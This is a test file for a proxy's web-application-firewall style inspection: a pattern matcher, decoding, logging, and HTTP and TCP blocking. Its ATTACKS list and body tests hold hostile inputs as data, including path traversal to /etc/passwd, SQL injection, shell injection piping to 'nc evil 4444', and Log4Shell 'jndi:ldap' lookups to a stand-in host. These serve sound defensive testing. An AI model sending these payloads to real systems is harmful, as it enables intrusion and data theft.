import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer as createHttpServer, type IncomingHttpHeaders } from 'node:http';
import { createServer as createNetServer, connect, type Socket } from 'node:net';
import { once } from 'node:events';
import { Writable } from 'node:stream';
import { setTimeout as sleep } from 'node:timers/promises';
import pino from 'pino';
import { request } from 'undici';
import { serve, registerHandler, handlerModule, type Yard } from '../src/index.ts';
import { parseConfig } from '../src/config/index.ts';
import { tcpProxyHandler } from '../src/handlers/tcp-proxy.ts';
import { AhoCorasick } from '../src/inspect/aho-corasick.ts';
import { MatchLog } from '../src/inspect/metrics.ts';
import { percentDecode, StreamingFormDecoder } from '../src/inspect/normalize.ts';
import { run } from './helpers/net.ts';

// Traffic inspection: the matcher on its own (against a naive search, across chunk boundaries),
// then the inspect middleware in front of a real upstream (curl, undici, raw sockets) and the
// tcp-proxy stream filter between real sockets. Nothing here asserts on timing.

if (handlerModule(tcpProxyHandler.type) === undefined) registerHandler(tcpProxyHandler as never);

const closers: (() => Promise<unknown> | void)[] = [];
after(async () => {
  for (const c of closers.reverse()) await c();
});

// ---- the matcher ----------------------------------------------------------------------------

const bytes = (s: string) => new Uint8Array(Buffer.from(s, 'latin1'));

/** Every (pattern, end offset) of a naive search, for comparison. */
function naive(patterns: string[], text: string, fold: boolean): string[] {
  const t = fold ? text.replace(/[A-Z]/g, (c) => c.toLowerCase()) : text;
  const out: string[] = [];
  patterns.forEach((p0, i) => {
    const p = fold ? p0.replace(/[A-Z]/g, (c) => c.toLowerCase()) : p0;
    for (let at = t.indexOf(p); at !== -1; at = t.indexOf(p, at + 1)) out.push(`${i}@${at + p.length}`);
  });
  return out.sort();
}

test('aho-corasick: the same matches as a naive search, whole or fed in pieces, with overlaps and case folding', () => {
  const patterns = ['he', 'she', 'his', 'hers', 'ushe', 'e', 'ABa'];
  let seed = 7;
  const rand = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
  for (const fold of [true, false]) {
    const ac = new AhoCorasick(patterns.map(bytes), { caseInsensitive: fold });
    for (let round = 0; round < 300; round++) {
      const len = Math.floor(rand() * 40);
      let text = '';
      for (let i = 0; i < len; i++) text += 'hersuaABbH\u00e9'[Math.floor(rand() * 11)];
      const want = naive(patterns, text, fold);
      // Whole, as a string.
      const got: string[] = [];
      let pos = 0;
      let s = ac.start;
      for (const ch of text) {
        s = ac.scanString(s, ch, (p) => got.push(`${p}@${pos + 1}`));
        pos++;
      }
      assert.deepEqual(got.sort(), want, `string ${JSON.stringify(text)} fold=${fold}`);
      // In random pieces, as bytes: the state carries a pattern across each cut.
      const buf = bytes(text);
      const got2: string[] = [];
      let st = ac.start;
      let at = 0;
      while (at < buf.length) {
        const end = Math.min(buf.length, at + 1 + Math.floor(rand() * 5));
        st = ac.scanBytes(st, buf.subarray(at, end), (p) => got2.push(String(p)));
        at = end;
      }
      assert.deepEqual(got2.sort(), want.map((w) => w.split('@')[0]).sort(), `pieces ${JSON.stringify(text)} fold=${fold}`);
    }
  }
});

test('aho-corasick: refuses an empty or oversized pattern set', () => {
  assert.throws(() => new AhoCorasick([new Uint8Array(0)], { caseInsensitive: true }), /empty/);
  assert.throws(() => new AhoCorasick([new Uint8Array(300)], { caseInsensitive: true }), /256 bytes/);
  assert.throws(() => new AhoCorasick(Array.from({ length: 100 }, () => new Uint8Array(200).fill(65)), { caseInsensitive: true }), /more than/);
});

test('normalize: percent-decoding once, + as space, backslash as slash, a form body decoded across chunks', () => {
  assert.equal(percentDecode('%2e%2E%2fetc', false), '../etc');
  assert.equal(percentDecode('%252e', false), '%2e');
  assert.equal(percentDecode('a+b%zz%4', true), 'a b%zz%4');
  assert.equal(percentDecode('..%5c..\\x', false, true), '../../x');
  const d = new StreamingFormDecoder();
  const parts = ['q=%2', '4%7Bjn', 'di%3', 'A+x%', '', '41'].map((p) => Buffer.from(d.decode(Buffer.from(p))).toString('latin1'));
  assert.equal(parts.join(''), 'q=${jndi: xA');
});

test('match log: at most perSecond lines a second, the next one says how many were left out', () => {
  let now = 0;
  const lines: Record<string, unknown>[] = [];
  const sink = new Writable({
    write(chunk: Buffer, _e, cb) {
      for (const line of chunk.toString('utf8').split('\n')) if (line) lines.push(JSON.parse(line) as Record<string, unknown>);
      cb();
    },
  });
  const log = pino({ level: 'info' }, sink);
  const ml = new MatchLog(3, () => now);
  for (let i = 0; i < 100; i++) ml.warn(log, { i }, 'm');
  now = 1500;
  ml.warn(log, { i: 100 }, 'm');
  return new Promise<void>((resolve) => setImmediate(() => {
    assert.equal(lines.length, 4);
    assert.equal(lines[3].suppressed, 97);
    assert.equal(lines[0].suppressed, undefined);
    resolve();
  }));
});

// ---- the HTTP middleware ----------------------------------------------------------------------

interface Upstream {
  port: number;
  /** Requests that reached it whole: path, headers, body. */
  seen: { url: string; headers: IncomingHttpHeaders; body: string }[];
  /** Requests whose head reached it (whether or not their body came whole). */
  started: number;
}

async function upstream(): Promise<Upstream> {
  const u: Upstream = { port: 0, seen: [], started: 0 };
  const server = createHttpServer((req, res) => {
    u.started++;
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      u.seen.push({ url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('latin1') });
      res.end('ok');
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  u.port = (server.address() as { port: number }).port;
  closers.push(() => {
    server.closeAllConnections();
    return new Promise((r) => server.close(r));
  });
  return u;
}

function capturedLogger(): { logger: pino.Logger; lines: Record<string, unknown>[] } {
  const lines: Record<string, unknown>[] = [];
  const sink = new Writable({
    write(chunk: Buffer, _e, cb) {
      for (const line of chunk.toString('utf8').split('\n')) if (line) lines.push(JSON.parse(line) as Record<string, unknown>);
      cb();
    },
  });
  return { logger: pino({ level: 'info' }, sink), lines };
}

async function webYard(up: Upstream, inspect: unknown, extra: { routes?: unknown[]; logger?: pino.Logger; h2c?: boolean } = {}): Promise<{ y: Yard; port: number }> {
  const y = await serve(
    {
      listeners: [
        {
          name: 'web',
          protocol: 'http',
          address: '127.0.0.1:0',
          middleware: { inspect, accessLog: false },
          ...(extra.h2c ? { http2: { h2c: true } } : {}),
          routes: extra.routes ?? [{ match: { path: '/*' }, handler: { type: 'proxy', upstream: 'app' } }],
        },
      ],
      upstreams: { app: { targets: [`http://127.0.0.1:${up.port}`] } },
    },
    extra.logger ? { logger: extra.logger } : { logLevel: 'silent' },
  );
  closers.push(() => y.stop(100));
  return { y, port: y.address('web').port };
}

async function get(port: number, path: string, headers: Record<string, string> = {}): Promise<number> {
  const r = await request(`http://127.0.0.1:${port}${path}`, { headers, headersTimeout: 5000, bodyTimeout: 5000 });
  await r.body.text();
  return r.statusCode;
}

async function matches(y: Yard, rule: string, action: string): Promise<number> {
  const text = await y.metrics.text();
  const m = new RegExp(`^switchyard_inspect_matches_total\\{rule="${rule}",action="${action}",listener="web"\\} (\\d+)$`, 'm').exec(text);
  return m ? Number(m[1]) : 0;
}

const ATTACKS: { family: string; path: string; headers?: Record<string, string> }[] = [
  { family: 'path-traversal', path: '/download?file=..%2f..%2fetc%2fpasswd' },
  { family: 'path-traversal', path: '/download?file=%2e%2e%2f%2e%2e%2fsecret' },
  { family: 'path-traversal', path: '/download?file=%252e%252e%252fboot.ini' },
  { family: 'path-traversal', path: '/download?file=C:%5cwindows%5cwin.ini' },
  { family: 'sql-injection', path: '/search?q=1%20UNION%20SELECT%20password%20FROM%20users' },
  { family: 'sql-injection', path: "/search?q=x'+or+'1'='1" },
  { family: 'sql-injection', path: '/search?id=1%20AND%20SLEEP(5)' },
  { family: 'sql-injection', path: '/items?id=1+union+all+select+table_name+from+information_schema.tables' },
  { family: 'shell-injection', path: '/ping?host=127.0.0.1;cat%20/etc/hosts' },
  { family: 'shell-injection', path: '/ping?host=$(id)' },
  { family: 'shell-injection', path: '/ping?host=x%7Cnc%20evil%204444' },
  { family: 'shell-injection', path: '/ping?cmd=%60id%60' },
  { family: 'scanner-user-agent', path: '/', headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } },
  { family: 'scanner-user-agent', path: '/', headers: { 'user-agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' } },
  { family: 'scanner-user-agent', path: '/', headers: { 'user-agent': 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' } },
  { family: 'scanner-user-agent', path: '/', headers: { 'user-agent': 'gobuster/3.6' } },
  { family: 'log4shell', path: '/', headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } },
  { family: 'log4shell', path: '/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D' },
  { family: 'log4shell', path: '/', headers: { referer: '${${::-j}${::-n}di:ldap://x}' } },
];

const BENIGN: { path: string; headers?: Record<string, string> }[] = [
  { path: '/selected-items' },
  { path: '/api/users?select=name,email&sort=-created' },
  { path: '/search?q=union+station+timetable' },
  { path: '/search?q=sleep+well+tonight' },
  { path: "/search?q=O'Reilly+books" },
  { path: '/search?q=1%3D1+is+true' },
  { path: '/files/report..final.pdf' },
  { path: '/cat-pictures?sort=desc&page=2' },
  { path: '/hello%20world.txt' },
  { path: '/information/about-us' },
  { path: '/api/v1/items?filter=status%3Dactive%26price%3E10' },
  { path: '/static/app.min.js?v=1.2.3' },
  { path: '/template?name=${user}' },
  { path: '/', headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' } },
  { path: '/', headers: { 'user-agent': 'curl/8.5.0', accept: 'text/html, */*;q=0.8', cookie: 'session=abc; theme=dark' } },
];

test('default rules: each family is refused with 403 and never reaches the upstream; counted per rule', async () => {
  const up = await upstream();
  const { y, port } = await webYard(up, true);
  for (const a of ATTACKS) {
    const before = up.seen.length;
    assert.equal(await get(port, a.path, a.headers), 403, `${a.family}: ${a.path} ${JSON.stringify(a.headers ?? {})}`);
    assert.equal(up.seen.length, before, `${a.path} reached the upstream`);
  }
  for (const family of new Set(ATTACKS.map((a) => a.family))) {
    assert.equal(await matches(y, family, 'block'), ATTACKS.filter((a) => a.family === family).length, family);
  }
});

test('default rules: ordinary traffic passes untouched', async () => {
  const up = await upstream();
  const { port } = await webYard(up, { defaultRules: true });
  for (const b of BENIGN) assert.equal(await get(port, b.path, b.headers), 200, `${b.path} ${JSON.stringify(b.headers ?? {})}`);
  assert.equal(up.seen.length, BENIGN.length);
  // A JSON body with SQL words in it, and a form that speaks of unions.
  const json = await request(`http://127.0.0.1:${port}/api/notes`, { method: 'POST', body: JSON.stringify({ text: 'select the union of both sets; run $(make) in ../build' }), headers: { 'content-type': 'application/json' } });
  await json.body.text();
  assert.equal(json.statusCode, 200);
  assert.match(up.seen.at(-1)?.body ?? '', /union of both sets/);
});

test('encoded traversal: %2e%2e%2f in the query, %252e%252e%252f in the path (curl --path-as-is) are refused by inspection', async () => {
  const up = await upstream();
  const { y, port } = await webYard(up, true);
  const status = async (path: string) => (await run('curl', ['-s', '--path-as-is', '-o', '/dev/null', '-w', '%{http_code}', `http://127.0.0.1:${port}${path}`])).stdout;
  // Once-encoded dot segments in the path are the listener's to refuse (400) before any middleware.
  assert.equal(await status('/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd'), '400');
  assert.equal(await status('/static/%252e%252e%252fsecret'), '403');
  assert.equal(await status('/static/..%252f..%252fetc/shadow'), '403');
  assert.equal(await status('/view?page=%2e%2e%2f%2e%2e%2fconfig.php'), '403');
  assert.equal(up.seen.length, 0);
  assert.equal(await matches(y, 'path-traversal', 'block'), 3);
});

test('per-rule disable, defaultAction and a route that turns inspection off', async () => {
  const up = await upstream();
  const { port } = await webYard(up, { disable: ['scanner-user-agent'], defaultAction: 'block' }, {
    routes: [
      { match: { path: '/open/*' }, handler: { type: 'proxy', upstream: 'app' }, middleware: { inspect: false } },
      { match: { path: '/*' }, handler: { type: 'proxy', upstream: 'app' } },
    ],
  });
  assert.equal(await get(port, '/', { 'user-agent': 'sqlmap/1.7' }), 200);
  assert.equal(await get(port, '/x?q=union+select+1'), 403);
  assert.equal(await get(port, '/open/x?q=union+select+1'), 200);
});

/** Sends a POST whose body comes in two writes with a pause between; returns the status line's code (0: none). */
async function twoPartPost(port: number, path: string, parts: [string, string], contentType = 'text/plain', between: () => Promise<unknown> = () => sleep(100)): Promise<number> {
  const body = parts.join('');
  const s = connect({ port, host: '127.0.0.1' });
  await once(s, 'connect');
  const got: Buffer[] = [];
  s.on('data', (d) => got.push(d));
  s.on('error', () => {});
  s.write(`POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: ${contentType}\r\ncontent-length: ${Buffer.byteLength(body)}\r\nconnection: close\r\n\r\n${parts[0]}`);
  await between();
  if (!s.destroyed) s.write(parts[1]);
  await Promise.race([once(s, 'close'), sleep(5000)]);
  s.destroy();
  const m = /^HTTP\/1\.1 (\d{3})/.exec(Buffer.concat(got).toString('latin1'));
  return m ? Number(m[1]) : 0;
}

test('body: a pattern split across two chunks is found, and the body never reaches the upstream; a form body is matched decoded', async () => {
  const up = await upstream();
  const { y, port } = await webYard(up, true);
  assert.equal(await twoPartPost(port, '/submit', ['name=x&q=1 UNION SEL', 'ECT password FROM users']), 403);
  assert.equal(await twoPartPost(port, '/submit', ['q=%24%7Bjn', 'di%3Aldap%3A%2F%2Fevil%7D'], 'application/x-www-form-urlencoded'), 403);
  assert.equal(up.seen.length, 0, 'nothing of a blocked body reached the upstream');
  assert.equal(await matches(y, 'sql-injection', 'block'), 1);
  assert.equal(await matches(y, 'log4shell', 'block'), 1);
  // The same bytes without the pattern pass whole.
  assert.equal(await twoPartPost(port, '/submit', ['name=x&q=1 UNION SEL', 'DOM SEEN']), 200);
  assert.equal(up.seen.at(-1)?.body, 'name=x&q=1 UNION SELDOM SEEN');
});

test('body: a match after the handler began streaming answers 403 and the upstream never gets a complete body', async () => {
  const up = await upstream();
  const { port } = await webYard(up, { bodyLimit: '64KiB', bodyWait: '100ms' });
  // 8 KiB of filler, then nothing until the upstream has the request: bodyWait passes with less
  // than bodyLimit seen, so the proxy starts sending upstream before the pattern comes (the body,
  // over 100 KiB, is too large for the proxy to hold for retries: it streams). (Filling the
  // request's buffer instead would depend on Node's stream high-water mark: 16 KiB on Node 20,
  // 64 KiB from Node 22 on.)
  const filler = 'a'.repeat(8 * 1024);
  const upstreamStarted = async () => {
    for (let i = 0; i < 100 && up.started === 0; i++) await sleep(20);
  };
  const status = await twoPartPost(port, '/upload', [filler, ' union select secret from vault' + 'b'.repeat(100 * 1024)], 'text/plain', upstreamStarted);
  assert.equal(status, 403);
  await sleep(50);
  assert.equal(up.started, 1, 'the request had gone upstream before the pattern came');
  assert.equal(up.seen.length, 0, 'the upstream saw a complete body');
});

test('body: past bodyLimit nothing is inspected; a body longer than the buffer is still streamed whole', async () => {
  const up = await upstream();
  const { port } = await webYard(up, { bodyLimit: '1KiB' });
  const late = 'a'.repeat(2000) + ' union select ';
  const r = await request(`http://127.0.0.1:${port}/up`, { method: 'POST', body: late });
  await r.body.text();
  assert.equal(r.statusCode, 200);
  const big = Buffer.alloc(300 * 1024, 'b');
  const r2 = await request(`http://127.0.0.1:${port}/up`, { method: 'POST', body: big });
  await r2.body.text();
  assert.equal(r2.statusCode, 200);
  assert.equal(up.seen.at(-1)?.body.length, big.length);
});

test('HTTP/2 (curl, prior knowledge): head and body are inspected the same way; a clean body reaches the upstream whole', async () => {
  const up = await upstream();
  const { port } = await webYard(up, true, { h2c: true });
  const curl = async (args: string[]) => (await run('curl', ['-s', '--http2-prior-knowledge', '-o', '/dev/null', '-w', '%{http_version} %{http_code}', ...args])).stdout;
  assert.equal(await curl([`http://127.0.0.1:${port}/search?q=1+union+select+2`]), '2 403');
  assert.equal(await curl(['-A', 'sqlmap/1.7', `http://127.0.0.1:${port}/`]), '2 403');
  assert.equal(await curl(['--data-binary', 'x=${jndi:ldap://evil/a}', `http://127.0.0.1:${port}/form`]), '2 403');
  assert.equal(up.seen.length, 0);
  const body = 'a'.repeat(50_000) + ' nothing to see';
  assert.equal(await curl(['--data-binary', body, `http://127.0.0.1:${port}/form`]), '2 200');
  assert.equal(up.seen[0].body, body);
});

test('log: one warn line per matched rule with its id, client ip and request id; the request goes on', async () => {
  const up = await upstream();
  const { logger, lines } = capturedLogger();
  const { y, port } = await webYard(up, { defaultRules: false, rules: [{ id: 'probe', action: 'log', match: { path: ['/probe-me'], query: ['probe-me'] } }] }, { logger });
  assert.equal(await get(port, '/probe-me/probe-me?x=probe-me', { 'x-request-id': 'rid-123' }), 200);
  assert.equal(up.seen.length, 1);
  await sleep(20);
  const mine = lines.filter((l) => l.rule === 'probe');
  assert.equal(mine.length, 1, JSON.stringify(mine));
  assert.equal(mine[0].level, 40);
  assert.equal(mine[0].requestId, 'rid-123');
  assert.equal(mine[0].clientIp, '127.0.0.1');
  assert.equal(mine[0].action, 'log');
  assert.equal(await matches(y, 'probe', 'log'), 1);
});

test('tag: the upstream gets the ids of the matched tag rules; a tag the client sent is stripped', async () => {
  const up = await upstream();
  const { port } = await webYard(up, {
    defaultRules: false,
    rules: [
      { id: 'beta', action: 'tag', match: { path: ['/beta/'] } },
      { id: 'legacy-client', action: 'tag', match: { userAgent: ['oldapp/1'] } },
    ],
  });
  assert.equal(await get(port, '/beta/x', { 'user-agent': 'OldApp/1.2', 'x-switchyard-inspect': 'forged' }), 200);
  assert.equal(up.seen[0].headers['x-switchyard-inspect'], 'beta,legacy-client');
  assert.equal(await get(port, '/plain', { 'X-Switchyard-Inspect': 'forged' }), 200);
  assert.equal(up.seen[1].headers['x-switchyard-inspect'], undefined);
});

test('config: errors name the field', () => {
  const bad = (inspect: unknown, where: RegExp) => {
    assert.throws(
      () => parseConfig({ listeners: [{ name: 'web', protocol: 'http', address: '127.0.0.1:0', middleware: { inspect }, routes: [{ match: { path: '/*' }, handler: { type: 'respond', body: 'x' } }] }] }),
      (err: Error) => where.test(err.message),
      JSON.stringify(inspect),
    );
  };
  bad({ disable: ['no-such-rule'] }, /listeners\[0\]\.middleware\.inspect\.disable\[0\].*no rule "no-such-rule"/);
  bad({ rules: [{ id: 'r', match: { raw: ['x'] } }] }, /listeners\[0\]\.middleware\.inspect\.rules\[0\]\.match\.raw/);
  bad({ rules: [{ id: 'r', match: {} }] }, /listeners\[0\]\.middleware\.inspect\.rules\[0\]\.match/);
  bad({ rules: [{ id: 'r', match: { path: [''] } }] }, /listeners\[0\]\.middleware\.inspect\.rules\[0\]\.match\.path\[0\]/);
  bad({ rules: [{ id: 'r', action: 'drop', match: { path: ['x'] } }] }, /listeners\[0\]\.middleware\.inspect\.rules\[0\]\.action/);
  bad({ bodyLimit: '1MiB' }, /listeners\[0\]\.middleware\.inspect\.bodyLimit/);
  assert.throws(
    () => parseConfig({ listeners: [{ name: 'l4', protocol: 'tcp', address: '127.0.0.1:0', handler: { type: 'tcp-proxy', upstream: 'u', inspect: { rules: [{ id: 't', action: 'tag', match: { raw: ['x'] } }] } } }], upstreams: { u: { targets: ['127.0.0.1:1'] } } }),
    /listeners\[0\]\.handler\.inspect\.rules\[0\]\.action/,
  );
});

// ---- the tcp-proxy stream filter ----------------------------------------------------------------

/** An echo target that keeps everything it received. */
async function echoTarget(greeting?: string): Promise<{ port: number; received: () => string }> {
  const got: Buffer[] = [];
  const open = new Set<Socket>();
  const server = createNetServer({ allowHalfOpen: true }, (s) => {
    open.add(s);
    s.on('close', () => open.delete(s));
    s.on('error', () => s.destroy());
    s.on('data', (d) => got.push(d));
    if (greeting) s.write(greeting);
    s.pipe(s);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  closers.push(() => {
    for (const s of open) s.destroy();
    return new Promise((r) => server.close(r));
  });
  return { port: (server.address() as { port: number }).port, received: () => Buffer.concat(got).toString('latin1') };
}

async function l4Yard(target: number, inspect: unknown): Promise<{ y: Yard; port: number }> {
  const y = await serve(
    {
      listeners: [{ name: 'l4', protocol: 'tcp', address: '127.0.0.1:0', handler: { type: 'tcp-proxy', upstream: 'u', inspect } }],
      upstreams: { u: { targets: [`127.0.0.1:${target}`] } },
    },
    { logLevel: 'silent' },
  );
  closers.push(() => y.stop(100));
  return { y, port: y.address('l4').port };
}

/** Writes `parts` with pauses; returns what came back and whether the proxy closed the connection. */
async function streamParts(port: number, parts: string[]): Promise<{ reply: string; closed: boolean }> {
  const s = connect({ port, host: '127.0.0.1' });
  await once(s, 'connect');
  const got: Buffer[] = [];
  let closed = false;
  s.on('data', (d) => got.push(d));
  s.on('error', () => {});
  s.on('close', () => (closed = true));
  for (const p of parts) {
    if (s.destroyed) break;
    s.write(p);
    await sleep(100);
  }
  await Promise.race([once(s, 'close'), sleep(300)]);
  const wasClosed = closed;
  s.destroy();
  return { reply: Buffer.concat(got).toString('latin1'), closed: wasClosed };
}

test('tcp-proxy: a blocked pattern split across two TCP writes closes the connection; the upstream never gets it whole', async () => {
  const t = await echoTarget();
  const { y, port } = await l4Yard(t.port, { rules: [{ id: 'jndi', match: { raw: ['${jndi:'] } }] });
  const r = await streamParts(port, ['hello ${jn', 'di:ldap://evil/a}', 'more']);
  assert.equal(r.closed, true, 'the proxy closed the connection');
  assert.ok(!t.received().includes('${jndi:'), `upstream got ${JSON.stringify(t.received())}`);
  assert.ok(!t.received().includes('more'));
  const text = await y.metrics.text();
  assert.match(text, /^switchyard_inspect_matches_total\{rule="jndi",action="block",listener="l4"\} 1$/m);
  // Clean traffic passes both ways.
  const ok = await streamParts(port, ['ping ', 'pong']);
  assert.equal(ok.reply, 'ping pong');
  assert.equal(ok.closed, false);
});

test('tcp-proxy: the upstream direction is inspected too; directions: client leaves it alone; log does not close', async () => {
  const t = await echoTarget('banner: /bin/sh ready\n');
  const both = await l4Yard(t.port, { rules: [{ id: 'shell-banner', match: { raw: ['/bin/sh'] } }] });
  assert.equal((await streamParts(both.port, ['x'])).closed, true);
  const clientOnly = await l4Yard(t.port, { directions: 'client', rules: [{ id: 'shell-banner', match: { raw: ['/bin/sh'] } }] });
  const r = await streamParts(clientOnly.port, ['x']);
  assert.equal(r.closed, false);
  assert.match(r.reply, /\/bin\/sh ready/);
  const logOnly = await l4Yard(t.port, { rules: [{ id: 'shell-banner', action: 'log', match: { raw: ['/bin/sh'] } }] });
  const r2 = await streamParts(logOnly.port, ['y']);
  assert.equal(r2.closed, false);
  assert.match(await logOnly.y.metrics.text(), /rule="shell-banner",action="log",listener="l4"\} 1$/m);
});
